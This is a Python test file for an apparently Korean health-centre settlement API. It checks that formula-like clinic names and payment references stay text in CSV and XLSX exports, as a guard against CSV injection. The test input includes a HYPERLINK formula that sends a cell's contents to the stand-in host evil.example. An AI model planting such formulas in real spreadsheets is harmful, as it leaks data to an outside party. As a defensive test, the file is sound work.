"""A clinic name or payment reference that looks like a formula stays text in the CSV and
XLSX files a health centre files (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import openpyxl
from fastapi.testclient import TestClient

from tests.api.helpers import ClinicSetup, new_patient

DISTRICT = "11530"  # 구로구
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"정산 확인")'


def test_a_formula_in_a_clinic_name_or_a_payment_reference_stays_text(
    client: TestClient, city: dict[str, str], key_for: Any, clock: Any
) -> None:
    created = client.post(
        "/v1/clinics",
        headers=city,
        json={
            "name": HOSTILE_NAME,
            "kind": "chronic",
            "district": DISTRICT,
            "participating_since": "2024-01-01",
        },
    )
    assert created.status_code == 201, created.text
    clinic_id = created.json()["id"]
    clinic = key_for("clinic", clinic_id=clinic_id)
    centre = key_for("health_center", district=DISTRICT)
    clock(dt.date(2024, 2, 5))
    new_patient(client, ClinicSetup(clinic_id, DISTRICT, clinic), enrolled_on="2024-02-05")
    clock(dt.date(2024, 4, 2))
    settlement = client.post(
        "/v1/settlements", headers=centre, json={"district": DISTRICT, "year": 2024, "quarter": 1}
    ).json()
    closed = client.post(f"/v1/settlements/{settlement['id']}/close", headers=centre)
    assert closed.status_code == 200, closed.text
    paid = client.post(
        f"/v1/settlements/{settlement['id']}/payments",
        headers=centre,
        json={"clinic_id": clinic_id, "paid_on": "2024-04-02", "reference": "+82 SUM(1,2)"},
    )
    assert paid.status_code == 200, paid.text
    url = f"/v1/settlements/{settlement['id']}"

    raw = client.get(url, headers=centre, params={"format": "csv"}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    line = next(r for r in rows if r[0] == clinic_id)
    assert line[1] == "'" + HOSTILE_NAME
    assert line[7] == "'+82 SUM(1,2)"
    assert int(line[4]) == 0  # numbers, negative ones too, are left as numbers

    xlsx = client.get(url, headers=centre, params={"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    row = next(r for r in sheet.iter_rows() if r[0].value == clinic_id)
    assert row[1].value == HOSTILE_NAME and row[1].data_type == "s"
    assert row[7].value == "+82 SUM(1,2)" and row[7].data_type == "s"
